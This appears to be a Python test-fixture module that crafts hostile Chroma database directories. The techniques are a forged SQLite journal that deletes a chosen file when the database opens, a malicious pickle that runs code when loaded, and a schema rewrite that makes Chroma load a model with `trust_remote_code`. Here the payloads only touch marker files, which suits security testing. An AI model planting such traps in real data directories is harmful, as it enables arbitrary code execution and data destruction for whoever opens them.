"""Chroma directories that mean harm to whoever opens them."""

import json
import pickle
import sqlite3
import struct
from contextlib import closing
from pathlib import Path

_MODEL = """
from pathlib import Path

import torch

Path({marker!r}).touch()


class Evil(torch.nn.Module):
    @classmethod
    def load(cls, *_args, **_more):
        return cls()
"""


class _Touch:
    def __init__(self, marker: Path) -> None:
        self.marker = marker

    def __reduce__(self) -> tuple[object, ...]:
        return Path.touch, (self.marker,)


def journal(directory: Path, victim: Path) -> None:
    """A closed directory; whoever lets SQLite open its database deletes `victim`, which its journal names
    as the one that it belongs to."""
    database, page, magic = directory / "chroma.sqlite3", 4096, bytes.fromhex("d9d505f920a163d7")
    head = magic + struct.pack(">5I", 0, 7, database.stat().st_size // page, 512, page)
    name = bytes(victim)
    record = (
        struct.pack(">I", (1 << 30) // page + 1) + name + struct.pack(">2I", len(name), sum(name))
    )
    database.with_name("chroma.sqlite3-journal").write_bytes(
        head.ljust(512, b"\0") + record + magic
    )


def unpickled(directory: Path, marker: Path) -> None:
    """A closed directory; whoever unpickles its index touches `marker`."""
    for index in directory.glob("*/"):
        (index / "index_metadata.pickle").write_bytes(pickle.dumps(_Touch(marker)))


def revived(directory: Path, marker: Path) -> None:
    """A closed directory; whoever lets Chroma make vectors as it says touches `marker`."""
    model = marker.with_name("evil-model")
    model.mkdir(exist_ok=True)
    modules = [{"idx": 0, "name": "0", "path": "", "type": "evil.Evil"}]
    (model / "modules.json").write_text(json.dumps(modules), encoding="ascii")
    (model / "config.json").write_text("{}", encoding="ascii")
    (model / "evil.py").write_text(_MODEL.format(marker=str(marker)), encoding="ascii")
    function = {
        "type": "known", "name": "sentence_transformer",
        "config": {"model_name": str(model), "device": "cpu", "normalize_embeddings": False,
                   "kwargs": {"trust_remote_code": True}},
    }  # fmt: skip
    with closing(sqlite3.connect(directory / "chroma.sqlite3")) as database, database:
        (written,) = database.execute("SELECT schema_str FROM collections LIMIT 1").fetchone()
        schema = json.loads(written)
        for part in (schema["defaults"], schema["keys"]["#embedding"]):
            part["float_list"]["vector_index"]["config"]["embedding_function"] = function
        database.execute(
            "UPDATE collections SET schema_str=?, config_json_str=?",
            (json.dumps(schema), json.dumps({"embedding_function": function})),
        )
        database.execute(
            "INSERT INTO collection_metadata(collection_id, key, str_value)"
            " SELECT id, 'embedding_function', ? FROM collections",
            (json.dumps(function),),
        )
